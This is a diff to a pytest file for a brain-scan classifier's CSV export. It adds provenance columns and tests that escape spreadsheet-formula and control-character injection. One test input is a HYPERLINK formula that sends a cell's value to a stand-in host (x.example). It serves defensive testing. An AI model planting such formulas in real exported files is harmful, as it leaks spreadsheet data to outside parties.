@@ -1,13 +1,30 @@
 import csv
 import io
+import os
+from datetime import UTC, datetime
 
 import pytest
 
 from core.assessment import Assessment
-from core.predict import csv_columns
-from core.results import ERROR, ScanResult, filter_results, results_csv, sort_results
+from core.model_info import ModelInfo
+from core.results import (
+    ERROR,
+    Provenance,
+    ScanResult,
+    csv_columns,
+    filter_results,
+    is_results_csv,
+    results_csv,
+    sort_results,
+)
 
 CLASSES = ["glioma", "meningioma", "notumor", "pituitary"]
+MODEL = ModelInfo.from_artifacts({"name": "resnet_run", "classes": CLASSES, "weights_sha256": "ab" * 32}, None)
+PROVENANCE = Provenance.of(MODEL, datetime(2026, 12, 1, 9, 30, tzinfo=UTC))
+
+
+def csv_rows(results) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(results_csv(results, CLASSES, PROVENANCE))))
 
 
 def result(name: str, status: str = "ok", top: str = "glioma", p: float = 0.9, message: str = "") -> ScanResult:
@@ -56,12 +73,64 @@ def test_sorting_puts_missing_values_last(results):
         sort_results(results, "size")
 
 
-def test_csv_has_the_cli_columns_plus_view(results):
-    rows = list(csv.DictReader(io.StringIO(results_csv(results, CLASSES))))
-    expected = csv_columns(CLASSES)
-    expected.insert(1, "view")
-    assert list(rows[0]) == expected
+def test_csv_columns_and_values(results):
+    rows = csv_rows(results)
+    assert list(rows[0]) == [
+        "path",
+        "view",
+        "prediction",
+        "confidence",
+        *[f"p_{c}" for c in CLASSES],
+        "status",
+        "message",
+        "model",
+        "weights_sha256",
+        "generated_at",
+    ]
+    assert list(rows[0]) == csv_columns(CLASSES)
     assert rows[0]["prediction"] == "glioma" and float(rows[0]["confidence"]) == pytest.approx(0.95)
     assert rows[2]["status"] == "uncertain" and rows[2]["prediction"] == "" and rows[2]["confidence"] == ""
     assert float(rows[2]["p_meningioma"]) == pytest.approx(0.45)  # the scores stay available
     assert rows[3]["status"] == ERROR and rows[3]["message"].startswith("Not a format") and rows[3]["p_glioma"] == ""
+
+
+def test_every_row_names_the_model_its_weights_and_when(results):
+    for row in csv_rows(results):
+        assert row["model"] == "resnet_run" and row["weights_sha256"] == "ab" * 32
+        assert row["generated_at"] == "2026-12-01T09:30:00Z"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://x.example/?q="&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+3"],
+)
+def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(name):
+    """OWASP's advice for CSV injection: a cell starting with = + - or @ gets a leading apostrophe, which
+    spreadsheets show as text and do not evaluate."""
+    (row,) = csv_rows([ScanResult(name, "", ERROR, "=1+1 is not a scan")])
+    assert row["path"] == "'" + name and row["message"] == "'=1+1 is not a scan"
+
+
+@pytest.mark.parametrize(("name", "written"), [("\t=1+1", "\\t=1+1"), ("\r=1+1", "\\r=1+1"), ("a\rb\n", "a\\rb\\n")])
+def test_control_characters_are_written_as_escapes(name, written):
+    """A leading tab or CR (which some spreadsheets skip before looking for a formula) and a CR inside a
+    cell (which splits a row for many CSV readers) are written visibly, as escapes."""
+    rows = csv_rows([ScanResult(name, "", ERROR, "x"), ScanResult("next.png", "", ERROR, "y")])
+    assert [row["path"] for row in rows] == [written, "next.png"]
+
+
+def test_a_file_name_that_is_not_utf8_is_written_legibly():
+    """Linux hands Python the bytes of a Latin-1 name as lone surrogates (os.fsdecode), which no UTF-8
+    writer accepts; the cell shows the byte instead."""
+    name = os.fsdecode(b"caf\xe9.png")
+    text = results_csv([ScanResult(name, "", ERROR, "x")], CLASSES, PROVENANCE)
+    text.encode("utf-8")  # the CSV is valid UTF-8
+    assert csv_rows([ScanResult(name, "", ERROR, "x")])[0]["path"] == "caf\\xe9.png"
+
+
+def test_a_csv_this_tool_wrote_is_recognised(tmp_path, results):
+    ours, scan, empty = tmp_path / "ours.csv", tmp_path / "scan.png", tmp_path / "empty.csv"
+    ours.write_text(results_csv(results, CLASSES, PROVENANCE))
+    scan.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
+    empty.write_bytes(b"")
+    assert is_results_csv(ours) and not is_results_csv(scan) and not is_results_csv(empty)
